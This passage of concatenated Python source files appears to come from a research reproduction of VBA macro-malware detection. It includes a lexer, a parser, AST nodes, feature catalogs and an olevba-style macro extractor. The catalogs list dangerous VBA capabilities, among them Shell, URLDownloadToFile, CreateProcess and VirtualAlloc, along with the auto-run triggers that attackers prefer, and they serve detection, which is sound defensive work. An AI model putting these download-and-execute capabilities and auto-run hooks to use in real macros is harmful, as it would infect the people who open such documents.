            right = self._parse_additive()
            left = ast.BinOp("&", left, right, left.line)
        return left

    def _parse_additive(self) -> ast.Expression:
        left = self._parse_mod()
        while self._at_operator("+") or self._at_operator("-"):
            op = self._advance().text
            right = self._parse_mod()
            left = ast.BinOp(op, left, right, left.line)
        return left

    def _parse_mod(self) -> ast.Expression:
        left = self._parse_int_division()
        while self._at_keyword("mod"):
            self._advance()
            right = self._parse_int_division()
            left = ast.BinOp("mod", left, right, left.line)
        return left

    def _parse_int_division(self) -> ast.Expression:
        left = self._parse_multiplicative()
        while self._at_operator("\\"):
            self._advance()
            right = self._parse_multiplicative()
            left = ast.BinOp("\\", left, right, left.line)
        return left

    def _parse_multiplicative(self) -> ast.Expression:
        left = self._parse_unary()
        while self._at_operator("*") or self._at_operator("/"):
            op = self._advance().text
            right = self._parse_unary()
            left = ast.BinOp(op, left, right, left.line)
        return left

    def _parse_unary(self) -> ast.Expression:
        if self._at_operator("-"):
            token = self._advance()
            operand = self._parse_unary()
            return ast.UnaryOp("-", operand, token.line)
        if self._at_operator("+"):
            self._advance()
            return self._parse_unary()
        return self._parse_power()

    def _parse_power(self) -> ast.Expression:
        left = self._parse_postfix()
        if self._at_operator("^"):
            self._advance()
            right = self._parse_unary()
            return ast.BinOp("^", left, right, left.line)
        return left

    def _parse_postfix(self) -> ast.Expression:
        expression = self._parse_primary()
        while True:
            if self._at_punct("("):
                if not isinstance(expression, (ast.Name, ast.MemberAccess)):
                    raise VBAParseError(
                        "cannot call this expression", self._peek().line
                    )
                args = self._parse_arguments()
                if isinstance(expression, ast.Name):
                    expression = ast.Call(expression.name, args, expression.line)
                else:
                    expression = ast.MemberAccess(
                        expression.base, expression.member, args, expression.line
                    )
                continue
            if self._at_punct("."):
                self._advance()
                member = self._advance()
                if member.kind not in (TokenKind.IDENTIFIER, TokenKind.KEYWORD):
                    raise VBAParseError(
                        f"expected member name, found {member.text!r}", member.line
                    )
                expression = ast.MemberAccess(
                    expression, member.text, None, member.line
                )
                continue
            break
        return expression

    def _parse_arguments(self) -> tuple[ast.Expression, ...]:
        self._expect_punct("(")
        args: list[ast.Expression] = []
        if not self._at_punct(")"):
            args.append(self._parse_expression())
            while self._at_punct(","):
                self._advance()
                args.append(self._parse_expression())
        self._expect_punct(")")
        return tuple(args)

    def _parse_primary(self) -> ast.Expression:
        token = self._peek()
        if token.kind is TokenKind.STRING:
            self._advance()
            return ast.Literal(token.string_value, token.line)
        if token.kind is TokenKind.NUMBER:
            self._advance()
            return ast.Literal(_parse_number(token.text), token.line)
        if token.kind is TokenKind.DATE:
            self._advance()
            return ast.Literal(token.text, token.line)
        if token.kind is TokenKind.IDENTIFIER:
            self._advance()
            return ast.Name(token.text, token.line)
        if token.kind is TokenKind.KEYWORD:
            keyword = token.text.lower()
            if keyword == "true":
                self._advance()
                return ast.Literal(True, token.line)
            if keyword == "false":
                self._advance()
                return ast.Literal(False, token.line)
            if keyword in ("nothing", "null", "empty"):
                self._advance()
                return ast.Literal(None, token.line)
            # Type-conversion builtins (CStr, CLng, …) lex as keywords but are
            # callable; treat them as names.
            self._advance()
            return ast.Name(token.text, token.line)
        if self._at_punct("("):
            self._advance()
            inner = self._parse_expression()
            self._expect_punct(")")
            return inner
        raise VBAParseError(f"unexpected token {token.text!r}", token.line)


def _parse_number(text: str) -> int | float:
    body = text.rstrip("%&!#@^")
    if body.lower().startswith("&h"):
        return int(body[2:], 16)
    if body.lower().startswith("&o"):
        return int(body[2:], 8)
    if "." in body or "e" in body.lower():
        return float(body)
    return int(body)
