"""A tokenizer for Visual Basic for Applications source code.

The lexer is a single-pass scanner producing :class:`~repro.vba.tokens.Token`
objects.  It handles the VBA constructs that matter for static analysis of
macro code:

* ``'`` comments and ``Rem`` statement comments, running to end of line;
* double-quoted string literals with ``""`` escapes;
* numeric literals including ``&H`` hex, ``&O`` octal, exponents and type
  suffixes (``%``, ``&``, ``!``, ``#``, ``@``);
* ``#...#`` date literals;
* the ``_`` line continuation (space + underscore + end of line);
* multi-character operators (``<=``, ``>=``, ``<>``, ``:=``).

The scanner is loss-less: concatenating ``token.text`` for all tokens
(including whitespace/newline tokens) reconstructs the input exactly.  Feature
extraction relies on this property to compute exact character counts.
"""

from __future__ import annotations

from collections.abc import Iterator

from repro.vba.tokens import (
    MULTI_CHAR_OPERATORS,
    PUNCTUATION,
    SINGLE_CHAR_OPERATORS,
    VBA_KEYWORDS,
    Token,
    TokenKind,
)

_IDENT_START = frozenset(
    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ_"
)
_IDENT_CONT = _IDENT_START | frozenset("0123456789")
_DIGITS = frozenset("0123456789")
_HEX_DIGITS = frozenset("0123456789abcdefABCDEF")
_OCT_DIGITS = frozenset("01234567")
_TYPE_SUFFIXES = frozenset("%&!#@^")


class Lexer:
    """Streaming tokenizer over a VBA source string."""

    def __init__(self, source: str) -> None:
        self._source = source
        self._pos = 0
        self._line = 1
        self._column = 1

    def tokens(self) -> Iterator[Token]:
        """Yield every token in the source, terminating with an EOF token."""
        while self._pos < len(self._source):
            yield self._next_token()
        yield Token(TokenKind.EOF, "", self._line, self._column)

    # ------------------------------------------------------------------

    def _peek(self, offset: int = 0) -> str:
        index = self._pos + offset
        if index < len(self._source):
            return self._source[index]
        return ""

    def _make(self, kind: TokenKind, start: int, line: int, column: int) -> Token:
        return Token(kind, self._source[start : self._pos], line, column)

    def _advance(self, count: int = 1) -> None:
        for _ in range(count):
            if self._pos >= len(self._source):
                return
            char = self._source[self._pos]
            self._pos += 1
            if char == "\n" or (
                char == "\r" and self._peek() != "\n"
            ):  # LF, or a lone CR (classic-Mac line ending)
                self._line += 1
                self._column = 1
            else:
                self._column += 1

    def _next_token(self) -> Token:
        start, line, column = self._pos, self._line, self._column
        char = self._peek()

        if char in ("\r", "\n"):
            self._advance()
            if char == "\r" and self._peek() == "\n":
                self._advance()
            return self._make(TokenKind.NEWLINE, start, line, column)

        if char in (" ", "\t"):
            while self._peek() in (" ", "\t"):
                self._advance()
            # A trailing ``_`` after whitespace, followed by end of line, is a
            # line continuation that splices the next physical line.  Editors
            # routinely leave spaces or tabs after the underscore, so any run
            # of trailing whitespace between ``_`` and the line break is part
            # of the continuation.
            if self._peek() == "_":
                offset = 1
                while self._peek(offset) in (" ", "\t"):
                    offset += 1
                if self._peek(offset) in ("\r", "\n", ""):
                    self._advance()  # the underscore
                    while self._peek() in (" ", "\t"):
                        self._advance()
                    if self._peek() == "\r":
                        self._advance()
                    if self._peek() == "\n":
                        self._advance()
                    return self._make(
                        TokenKind.LINE_CONTINUATION, start, line, column
                    )
            return self._make(TokenKind.WHITESPACE, start, line, column)

        if char == "'":
            return self._scan_line_comment(start, line, column)

        if char == '"':
            return self._scan_string(start, line, column)

        if char in _DIGITS:
            return self._scan_number(start, line, column)

        if char == "&" and self._peek(1).lower() in ("h", "o"):
            return self._scan_radix_number(start, line, column)

        if char == "." and self._peek(1) in _DIGITS:
            return self._scan_number(start, line, column)

        if char == "#" and self._looks_like_date():
            return self._scan_date(start, line, column)

        if char in _IDENT_START:
            return self._scan_word(start, line, column)

        for op in MULTI_CHAR_OPERATORS:
            if self._source.startswith(op, self._pos):
                self._advance(len(op))
                return self._make(TokenKind.OPERATOR, start, line, column)

        if char in SINGLE_CHAR_OPERATORS:
            self._advance()
            return self._make(TokenKind.OPERATOR, start, line, column)

        if char in PUNCTUATION:
            self._advance()
            return self._make(TokenKind.PUNCT, start, line, column)

        self._advance()
        return self._make(TokenKind.UNKNOWN, start, line, column)

    # ------------------------------------------------------------------

    def _scan_line_comment(self, start: int, line: int, column: int) -> Token:
        while self._peek() not in ("\r", "\n", ""):
            self._advance()
        return self._make(TokenKind.COMMENT, start, line, column)

    def _scan_string(self, start: int, line: int, column: int) -> Token:
        self._advance()  # opening quote
        while True:
            char = self._peek()
            if char == "":
                break  # unterminated string: tolerate, common in broken code
            if char in ("\r", "\n"):
                break  # VBA strings cannot span lines
            if char == '"':
                if self._peek(1) == '"':
                    self._advance(2)
                    continue
                self._advance()
                break
            self._advance()
        return self._make(TokenKind.STRING, start, line, column)

    def _scan_number(self, start: int, line: int, column: int) -> Token:
        while self._peek() in _DIGITS:
            self._advance()
        if self._peek() == "." and self._peek(1) in _DIGITS:
            self._advance()
            while self._peek() in _DIGITS:
                self._advance()
        if self._peek().lower() == "e" and (
            self._peek(1) in _DIGITS
            or (self._peek(1) in "+-" and self._peek(2) in _DIGITS)
        ):
            self._advance()
            if self._peek() in "+-":
                self._advance()
            while self._peek() in _DIGITS:
                self._advance()
        if self._peek() in _TYPE_SUFFIXES:
            self._advance()
        return self._make(TokenKind.NUMBER, start, line, column)

    def _scan_radix_number(self, start: int, line: int, column: int) -> Token:
        radix = self._peek(1).lower()
        digits = _HEX_DIGITS if radix == "h" else _OCT_DIGITS
        self._advance(2)
        while self._peek() in digits:
            self._advance()
        if self._peek() in ("&", "%"):
            self._advance()
        return self._make(TokenKind.NUMBER, start, line, column)

    def _looks_like_date(self) -> bool:
        """Heuristically decide whether ``#`` opens a date literal.

        A date literal looks like ``#1/2/2016#`` or ``#12:30 PM#`` — a short
        run of date-ish characters terminated by ``#`` on the same line.
        """
        index = self._pos + 1
        length = 0
        while index < len(self._source) and length < 24:
            char = self._source[index]
            if char == "#":
                return length > 0
            if char in ("\r", "\n"):
                return False
            if char not in "0123456789/:- APMapm,":
                return False
            index += 1
            length += 1
        return False

    def _scan_date(self, start: int, line: int, column: int) -> Token:
        self._advance()  # opening '#'
        while self._peek() not in ("#", "\r", "\n", ""):
            self._advance()
        if self._peek() == "#":
            self._advance()
        return self._make(TokenKind.DATE, start, line, column)

    def _scan_word(self, start: int, line: int, column: int) -> Token:
        while self._peek() in _IDENT_CONT:
            self._advance()
        word = self._source[start : self._pos].lower()
        if word == "rem":
            # ``Rem`` introduces a comment running to end of line.
            while self._peek() not in ("\r", "\n", ""):
                self._advance()
            return self._make(TokenKind.COMMENT, start, line, column)
        if word in VBA_KEYWORDS:
            return self._make(TokenKind.KEYWORD, start, line, column)
        # An identifier may carry a type suffix (``count%``, ``name$``).
        if self._peek() in "%&!#@$":
            self._advance()
        return self._make(TokenKind.IDENTIFIER, start, line, column)


def tokenize(source: str) -> list[Token]:
    """Tokenize VBA source, returning all tokens including the final EOF."""
    return list(Lexer(source).tokens())


def significant_tokens(source: str) -> list[Token]:
    """Tokenize and drop whitespace, newlines, continuations and EOF.

    Comments are kept: several features need them.
    """
    unwanted = {
        TokenKind.WHITESPACE,
        TokenKind.NEWLINE,
        TokenKind.LINE_CONTINUATION,
        TokenKind.EOF,
    }
    return [token for token in tokenize(source) if token.kind not in unwanted]
