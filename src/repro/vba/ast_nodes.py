"""AST node definitions for the VBA subset parser.

The subset covers everything the corpus generators and obfuscation engine
emit: procedures, declarations, assignments, the structured control-flow
statements, and the expression grammar with VBA operator precedence.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Union

# ----------------------------------------------------------------------
# Expressions


@dataclass(frozen=True, slots=True)
class Literal:
    value: object  # str | int | float | bool | None
    line: int = 0


@dataclass(frozen=True, slots=True)
class Name:
    name: str
    line: int = 0


@dataclass(frozen=True, slots=True)
class Call:
    """A call or array-index expression: ``name(arg, ...)``.

    VBA uses identical syntax for both; the interpreter disambiguates at
    runtime based on what ``name`` is bound to.
    """

    name: str
    args: tuple["Expression", ...]
    line: int = 0


@dataclass(frozen=True, slots=True)
class MemberAccess:
    """``base.member`` or ``base.member(args)`` — parsed but unsupported at
    runtime (host-application object model), except for whitelisted no-ops."""

    base: "Expression"
    member: str
    args: tuple["Expression", ...] | None = None
    line: int = 0


@dataclass(frozen=True, slots=True)
class BinOp:
    op: str
    left: "Expression"
    right: "Expression"
    line: int = 0


@dataclass(frozen=True, slots=True)
class UnaryOp:
    op: str  # "-" | "not"
    operand: "Expression"
    line: int = 0


Expression = Union[Literal, Name, Call, MemberAccess, BinOp, UnaryOp]


# ----------------------------------------------------------------------
# Statements


@dataclass(frozen=True, slots=True)
class DimStmt:
    """``Dim a, b(10) As Long`` — names with optional array extents."""

    names: tuple[tuple[str, Expression | None], ...]
    line: int = 0


@dataclass(frozen=True, slots=True)
class ConstStmt:
    name: str
    value: Expression
    line: int = 0


@dataclass(frozen=True, slots=True)
class Assign:
    """``target = expr`` / ``target(idx) = expr`` / ``Set target = expr``.

    A :class:`MemberAccess` target is a host-object property write
    (``Selection.RowHeight = 15``) — preserved for unparsing, inert at
    interpretation time.
    """

    target: Name | Call | MemberAccess
    value: Expression
    line: int = 0


@dataclass(frozen=True, slots=True)
class IfStmt:
    branches: tuple[tuple[Expression, tuple["Statement", ...]], ...]
    else_body: tuple["Statement", ...]
    line: int = 0


@dataclass(frozen=True, slots=True)
class ForStmt:
    var: str
    start: Expression
    end: Expression
    step: Expression | None
    body: tuple["Statement", ...]
    line: int = 0


@dataclass(frozen=True, slots=True)
class ForEachStmt:
    var: str
    iterable: Expression
    body: tuple["Statement", ...]
    line: int = 0


@dataclass(frozen=True, slots=True)
class DoLoopStmt:
    """All four Do/While flavours.

    ``condition_kind``: "while" or "until"; ``pre_test`` True for
    ``Do While …``/``Do Until …``, False for ``Do … Loop While`` forms.
    A plain ``While … Wend`` parses as pre-test "while".
    """

    condition: Expression
    condition_kind: str
    pre_test: bool
    body: tuple["Statement", ...]
    line: int = 0


@dataclass(frozen=True, slots=True)
class WithStmt:
    """``With subject … End With``.

    Body statements addressing the subject (``.Font.Bold = True``) are
    host-object operations; the parser keeps them as verbatim
    :class:`NoOpStmt` lines inside the block.
    """

    subject: Expression
    body: tuple["Statement", ...]
    line: int = 0


@dataclass(frozen=True, slots=True)
class ExitStmt:
    kind: str  # "sub" | "function" | "for" | "do"
    line: int = 0


@dataclass(frozen=True, slots=True)
class CallStmt:
    call: Call | MemberAccess
    line: int = 0


@dataclass(frozen=True, slots=True)
class NoOpStmt:
    """``DoEvents``, ``On Error Resume Next``, ``MsgBox …``, etc."""

    text: str
    line: int = 0


Statement = Union[
    DimStmt,
    ConstStmt,
    Assign,
    IfStmt,
    ForStmt,
    ForEachStmt,
    DoLoopStmt,
    WithStmt,
    ExitStmt,
    CallStmt,
    NoOpStmt,
]


# ----------------------------------------------------------------------
# Module structure


@dataclass(frozen=True, slots=True)
class Procedure:
    kind: str  # "sub" | "function"
    name: str
    params: tuple[str, ...]
    body: tuple[Statement, ...]
    line: int = 0


@dataclass(slots=True)
class Module:
    procedures: dict[str, Procedure] = field(default_factory=dict)
    module_statements: list[Statement] = field(default_factory=list)

    def procedure(self, name: str) -> Procedure:
        proc = self.procedures.get(name.lower())
        if proc is None:
            raise KeyError(f"no procedure named {name!r}")
        return proc
