"""Catalogs of VBA built-in functions, grouped as the paper's features need.

Features V8–V12 (Table IV) measure the fraction of called functions that fall
into five categories: text, arithmetic, type conversion, financial, and
"rich functionality".  The catalogs below follow the VBA language
specification [MS-VBAL] and the examples the paper lists for each feature.

All names are stored lower-case; VBA is case-insensitive.
"""

from __future__ import annotations

# V8 — text functions: string inspection and manipulation.
TEXT_FUNCTIONS: frozenset[str] = frozenset(
    {
        "asc", "ascb", "ascw", "chr", "chrb", "chrw", "filter", "format",
        "formatcurrency", "formatdatetime", "formatnumber", "formatpercent",
        "instr", "instrb", "instrrev", "join", "lcase", "left", "leftb",
        "len", "lenb", "ltrim", "mid", "midb", "monthname", "replace",
        "right", "rightb", "rtrim", "space", "split", "str", "strcomp",
        "strconv", "string", "strreverse", "trim", "ucase", "weekdayname",
    }
)

# V9 — arithmetic functions.
ARITHMETIC_FUNCTIONS: frozenset[str] = frozenset(
    {
        "abs", "atn", "cos", "exp", "fix", "int", "log", "randomize",
        "rnd", "round", "sgn", "sin", "sqr", "tan",
    }
)

# V10 — type conversion functions.
TYPE_CONVERSION_FUNCTIONS: frozenset[str] = frozenset(
    {
        "cbool", "cbyte", "cchar", "ccur", "cdate", "cdbl", "cdec", "cint",
        "clng", "clnglng", "clngptr", "cobj", "csng", "cshort", "cstr",
        "cuint", "culng", "cushort", "cvar", "cverr", "hex", "oct", "val",
    }
)

# V11 — financial functions (rare in benign macros, used by obfuscators to
# diversify variants).
FINANCIAL_FUNCTIONS: frozenset[str] = frozenset(
    {
        "ddb", "fv", "ipmt", "irr", "mirr", "nper", "npv", "pmt", "ppmt",
        "pv", "rate", "sln", "syd",
    }
)

# V12 — functions "with rich functionality": can write, download, or execute
# files, or reach outside the macro sandbox.  Includes the paper's examples
# Shell() and CallByName() plus the standard dangerous-capability set that
# olevba flags as auto-exec / suspicious.
RICH_FUNCTIONS: frozenset[str] = frozenset(
    {
        "callbyname", "createobject", "getobject", "shell", "environ",
        "command", "dir", "filecopy", "filelen", "kill", "mkdir", "rmdir",
        "open", "print", "write", "close", "savetofile", "sendkeys",
        "setattr", "chdir", "chdrive", "dofile", "execute", "exec", "run",
        "urldownloadtofile", "shellexecute", "regwrite", "regread",
        "savesetting", "getsetting", "deletesetting", "loadlibrary",
        "getprocaddress", "virtualalloc", "createthread", "winexec",
        "createprocess", "createprocessa", "createprocessw",
    }
)

#: Union of every categorized built-in, useful for "is this a known builtin"
#: checks during call-site analysis.
ALL_CATEGORIZED_FUNCTIONS: frozenset[str] = (
    TEXT_FUNCTIONS
    | ARITHMETIC_FUNCTIONS
    | TYPE_CONVERSION_FUNCTIONS
    | FINANCIAL_FUNCTIONS
    | RICH_FUNCTIONS
)

#: Mapping from feature name to its function catalog, in Table IV order.
FUNCTION_CATEGORIES: dict[str, frozenset[str]] = {
    "text": TEXT_FUNCTIONS,
    "arithmetic": ARITHMETIC_FUNCTIONS,
    "type_conversion": TYPE_CONVERSION_FUNCTIONS,
    "financial": FINANCIAL_FUNCTIONS,
    "rich": RICH_FUNCTIONS,
}

# Event procedures that execute automatically when a document is opened or
# closed.  The paper (Section III.A) notes attackers prefer these triggers;
# the AV simulator and the malicious-corpus generator both use this list.
AUTO_EXEC_PROCEDURES: frozenset[str] = frozenset(
    {
        "auto_open", "auto_close", "autoopen", "autoclose", "autoexec",
        "autoexit", "autonew", "document_open", "document_close",
        "document_new", "workbook_open", "workbook_close",
        "workbook_beforeclose", "workbook_activate",
    }
)


def categorize_function(name: str) -> str | None:
    """Return the category of a built-in function name, or ``None``.

    Lookup is case-insensitive.  When a name appears in multiple catalogs the
    first category in Table IV order wins.
    """
    lowered = name.lower()
    for category, catalog in FUNCTION_CATEGORIES.items():
        if lowered in catalog:
            return category
    return None
