"""Token definitions for the VBA lexer.

The lexer in :mod:`repro.vba.lexer` produces a flat stream of
:class:`Token` objects.  The token taxonomy follows the lexical grammar of
[MS-VBAL] closely enough for static feature extraction: the paper's features
(Table IV / Table VI) need comments, string literals, identifiers, keywords,
operators and line structure, all of which are first-class token kinds here.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass


class TokenKind(enum.Enum):
    """Lexical category of a :class:`Token`."""

    IDENTIFIER = "identifier"
    KEYWORD = "keyword"
    STRING = "string"
    NUMBER = "number"
    DATE = "date"
    OPERATOR = "operator"
    PUNCT = "punct"
    COMMENT = "comment"
    NEWLINE = "newline"
    LINE_CONTINUATION = "line_continuation"
    WHITESPACE = "whitespace"
    UNKNOWN = "unknown"
    EOF = "eof"


@dataclass(frozen=True, slots=True)
class Token:
    """A single lexical token.

    Attributes:
        kind: lexical category.
        text: the exact source text of the token (including delimiters for
            strings and the leading ``'`` / ``Rem`` for comments).
        line: 1-based line number of the first character.
        column: 1-based column number of the first character.
    """

    kind: TokenKind
    text: str
    line: int
    column: int

    @property
    def string_value(self) -> str:
        """Return the decoded value of a STRING token.

        VBA escapes an embedded double quote by doubling it; delimiters are
        stripped.  Raises :class:`ValueError` for non-string tokens.
        """
        if self.kind is not TokenKind.STRING:
            raise ValueError(f"not a string token: {self.kind}")
        body = self.text
        if body.startswith('"'):
            body = body[1:]
        if body.endswith('"'):
            body = body[:-1]
        return body.replace('""', '"')

    @property
    def comment_value(self) -> str:
        """Return the body of a COMMENT token without its ``'``/``Rem`` marker."""
        if self.kind is not TokenKind.COMMENT:
            raise ValueError(f"not a comment token: {self.kind}")
        if self.text.startswith("'"):
            return self.text[1:]
        # ``Rem`` comment: drop the marker and one following space if present.
        body = self.text[3:]
        return body[1:] if body.startswith(" ") else body


# Reserved words of the VBA language, per [MS-VBAL] section 3.3.5.  Keyword
# matching in VBA is case-insensitive; the lexer canonicalizes via ``.lower()``
# before membership tests against this set.
VBA_KEYWORDS: frozenset[str] = frozenset(
    {
        "addressof", "and", "any", "as", "boolean", "byref", "byte", "byval",
        "call", "case", "cbool", "cbyte", "ccur", "cdate", "cdbl", "cdec",
        "cint", "clng", "clnglng", "clngptr", "const", "csng", "cstr", "currency",
        "cvar", "cverr", "date", "debug", "decimal", "declare", "defbool",
        "defbyte", "defcur", "defdate", "defdbl", "defint", "deflng",
        "deflnglng", "deflngptr", "defobj", "defsng", "defstr", "defvar",
        "dim", "do", "double", "each", "else", "elseif", "empty", "end",
        "endif", "enum", "eqv", "erase", "error", "event", "exit", "false",
        "for", "friend", "function", "get", "global", "gosub", "goto", "if",
        "imp", "implements", "in", "integer", "is", "let", "lib", "like",
        "long", "longlong", "longptr", "loop", "lset", "me", "mod", "new",
        "next", "not", "nothing", "null", "object", "on", "option",
        "optional", "or", "paramarray", "preserve", "print", "private",
        "property", "public", "put", "raiseevent", "redim", "rem", "resume",
        "return", "rset", "select", "set", "shared", "single", "spc",
        "static", "step", "stop", "string", "sub", "tab", "then", "to",
        "true", "type", "typeof", "until", "variant", "wend", "while",
        "with", "withevents", "write", "xor",
    }
)

# Multi-character operators must be matched before their single-character
# prefixes; kept longest-first.
MULTI_CHAR_OPERATORS: tuple[str, ...] = ("<=", ">=", "<>", ":=")

SINGLE_CHAR_OPERATORS: frozenset[str] = frozenset("+-*/\\^&=<>")

PUNCTUATION: frozenset[str] = frozenset("().,;:!#@$%?[]{}")

# Operators that concatenate strings in VBA.  ``&`` is the canonical
# concatenation operator; ``+`` concatenates when both operands are strings.
# The paper's feature V5 counts occurrences of string operators including
# ``=`` used in the string-building assignments of split obfuscation.
STRING_CONCAT_OPERATORS: frozenset[str] = frozenset({"&", "+", "="})
