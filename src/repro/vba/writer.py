"""Helpers for emitting well-formed VBA source code.

Used by the corpus generators and by the obfuscation transforms that need to
synthesize new procedures (decoder stubs, junk code, padded declarations).
"""

from __future__ import annotations


class CodeWriter:
    """An indentation-aware line buffer for VBA code emission."""

    INDENT = "    "

    def __init__(self) -> None:
        self._lines: list[str] = []
        self._depth = 0

    def line(self, text: str = "") -> "CodeWriter":
        """Append one line at the current indentation depth."""
        if text:
            self._lines.append(self.INDENT * self._depth + text)
        else:
            self._lines.append("")
        return self

    def lines(self, *texts: str) -> "CodeWriter":
        for text in texts:
            self.line(text)
        return self

    def indent(self) -> "CodeWriter":
        self._depth += 1
        return self

    def dedent(self) -> "CodeWriter":
        if self._depth == 0:
            raise ValueError("cannot dedent below zero")
        self._depth -= 1
        return self

    def block(self, opener: str, closer: str) -> "_Block":
        """Context manager emitting ``opener`` / ``closer`` around a body."""
        return _Block(self, opener, closer)

    def raw(self, text: str) -> "CodeWriter":
        """Append pre-formatted multi-line text verbatim."""
        self._lines.extend(text.splitlines())
        return self

    def render(self) -> str:
        return "\n".join(self._lines) + "\n"


class _Block:
    def __init__(self, writer: CodeWriter, opener: str, closer: str) -> None:
        self._writer = writer
        self._opener = opener
        self._closer = closer

    def __enter__(self) -> CodeWriter:
        self._writer.line(self._opener)
        self._writer.indent()
        return self._writer

    def __exit__(self, *exc_info: object) -> None:
        self._writer.dedent()
        self._writer.line(self._closer)


def quote_vba_string(value: str) -> str:
    """Return ``value`` as a VBA string literal (doubling embedded quotes)."""
    return '"' + value.replace('"', '""') + '"'


def chunk_string(value: str, size: int) -> list[str]:
    """Split ``value`` into chunks of at most ``size`` characters."""
    if size <= 0:
        raise ValueError("chunk size must be positive")
    return [value[i : i + size] for i in range(0, len(value), size)]


def wrap_vba_expression(
    expression: str, width: int = 44, indent: str = "      "
) -> str:
    """Wrap a long expression across lines with VBA ``_`` continuations.

    Breaks only at safe points (after a comma or ``&`` outside string
    literals), the way real macro code and obfuscator output wraps long
    ``Array(...)`` literals and concatenation chains.
    """
    if len(expression) <= width:
        return expression
    lines: list[str] = []
    current: list[str] = []
    in_string = False
    length = 0
    index = 0
    while index < len(expression):
        char = expression[index]
        current.append(char)
        length += 1
        if char == '"':
            # Doubled quotes stay inside the string.
            if in_string and index + 1 < len(expression) and expression[index + 1] == '"':
                current.append('"')
                index += 2
                length += 1
                continue
            in_string = not in_string
        breakable = (
            not in_string
            and length >= width
            and char in ",&"
            and index + 1 < len(expression)
        )
        if breakable:
            lines.append("".join(current) + " _")
            current = [indent]
            length = len(indent)
        index += 1
    lines.append("".join(current))
    return "\n".join(lines)
