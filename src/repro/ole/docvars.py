"""Serialization of hidden document variables (§VI.B string hiding).

Word stores document variables deep inside the ``WordDocument`` stream's
property tables; reproducing that byte layout adds nothing to the paper's
pipeline, so this module defines a simple dedicated carrier: a UTF-8 XML-ish
part/stream mapping storage *expressions* (the exact text the macro evaluates,
e.g. ``ActiveDocument.Variables("x").Value()``) to their hidden values.

Used by both containers: OOXML packages store it as
``docProps/reproDocVars.xml``; legacy CFB documents as a root stream named
``ReproDocVars``.
"""

from __future__ import annotations

import base64

HEADER = b"<reproDocVars v=\"1\">\n"
FOOTER = b"</reproDocVars>\n"


class DocVarsError(ValueError):
    """Raised on malformed document-variable payloads."""


def encode_docvars(variables: dict[str, str]) -> bytes:
    """Serialize expression → value pairs (both base64, newline-framed)."""
    lines = [HEADER]
    for expression, value in sorted(variables.items()):
        key_b64 = base64.b64encode(expression.encode("utf-8")).decode("ascii")
        value_b64 = base64.b64encode(value.encode("utf-8")).decode("ascii")
        lines.append(f"  <var k=\"{key_b64}\" v=\"{value_b64}\"/>\n".encode("ascii"))
    lines.append(FOOTER)
    return b"".join(lines)


def decode_docvars(data: bytes) -> dict[str, str]:
    """Parse bytes produced by :func:`encode_docvars`."""
    if not data.startswith(HEADER.strip()[:13]):
        raise DocVarsError("missing reproDocVars header")
    variables: dict[str, str] = {}
    for raw_line in data.splitlines():
        line = raw_line.strip()
        if not line.startswith(b"<var "):
            continue
        try:
            key_part = line.split(b'k="', 1)[1].split(b'"', 1)[0]
            value_part = line.split(b'v="', 1)[1].split(b'"', 1)[0]
            expression = base64.b64decode(key_part).decode("utf-8")
            value = base64.b64decode(value_part).decode("utf-8")
        except (IndexError, ValueError) as error:
            raise DocVarsError(f"malformed var line: {raw_line!r}") from error
        variables[expression] = value
    return variables
