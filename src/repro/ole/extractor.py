"""olevba-equivalent macro extractor.

Sniffs a document's container format and extracts every VBA module's source
without "opening" the document — the property the paper relies on for safe
static preprocessing (Section IV.B):

* **OOXML** (``.docm``/``.xlsm``): unzip, locate ``*/vbaProject.bin``, parse
  it as a compound file, read the ``VBA`` storage.
* **Legacy CFB** (``.doc``/``.xls``): the VBA project lives under the
  ``Macros`` storage (Word) or ``_VBA_PROJECT_CUR`` (Excel); a bare
  ``vbaProject.bin`` has it at the root.

Also recovers hidden document variables (the §VI.B carrier) when present.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.ole import docvars, ooxml
from repro.ole.cfb import MAGIC as CFB_MAGIC
from repro.ole.cfb import CFBError, CompoundFileReader
from repro.ole.vba_project import (
    VBAModule,
    VBAProjectError,
    extract_modules_from_streams,
)

#: Storage prefixes where a VBA project may live inside a compound file.
VBA_ROOT_CANDIDATES = ("Macros", "_VBA_PROJECT_CUR", "")


class ExtractionError(ValueError):
    """Raised when a document has no extractable VBA project."""


@dataclass(slots=True)
class ExtractionResult:
    """Everything extracted from one document file."""

    container: str  # "ooxml" | "cfb"
    modules: list[VBAModule] = field(default_factory=list)
    document_variables: dict[str, str] = field(default_factory=dict)

    @property
    def sources(self) -> list[str]:
        return [module.source for module in self.modules]

    @property
    def has_macros(self) -> bool:
        return bool(self.modules)


def sniff_format(data: bytes) -> str:
    """Return "ooxml", "cfb", or "unknown"."""
    if ooxml.is_zip(data):
        return "ooxml"
    if data[:8] == CFB_MAGIC:
        return "cfb"
    return "unknown"


def extract_macros(data: bytes) -> ExtractionResult:
    """Extract VBA modules and hidden variables from document bytes."""
    kind = sniff_format(data)
    if kind == "ooxml":
        return _extract_from_ooxml(data)
    if kind == "cfb":
        return _extract_from_cfb(data)
    raise ExtractionError("unrecognized container format")


def _extract_from_ooxml(data: bytes) -> ExtractionResult:
    try:
        vba_bin = ooxml.read_vba_part(data)
    except ooxml.OOXMLError as error:
        raise ExtractionError(str(error)) from error
    inner = _extract_from_cfb(vba_bin)
    result = ExtractionResult(container="ooxml", modules=inner.modules)
    try:
        raw_docvars = ooxml.read_part(data, ooxml.DOCVARS_PART)
    except ooxml.OOXMLError as error:
        raise ExtractionError(str(error)) from error
    if raw_docvars is not None:
        result.document_variables = docvars.decode_docvars(raw_docvars)
    return result


def _extract_from_cfb(data: bytes) -> ExtractionResult:
    try:
        reader = CompoundFileReader(data)
    except CFBError as error:
        raise ExtractionError(f"bad compound file: {error}") from error
    streams = reader.list_streams()
    lowered = {stream.lower() for stream in streams}

    vba_prefix = None
    for candidate in VBA_ROOT_CANDIDATES:
        prefix = f"{candidate}/VBA" if candidate else "VBA"
        if f"{prefix.lower()}/dir" in lowered:
            vba_prefix = prefix
            break
    if vba_prefix is None:
        raise ExtractionError("document contains no VBA project")

    try:
        modules = extract_modules_from_streams(
            reader.read_stream, streams, vba_prefix
        )
    except VBAProjectError as error:
        raise ExtractionError(str(error)) from error

    result = ExtractionResult(container="cfb", modules=modules)
    if reader.exists("ReproDocVars"):
        result.document_variables = docvars.decode_docvars(
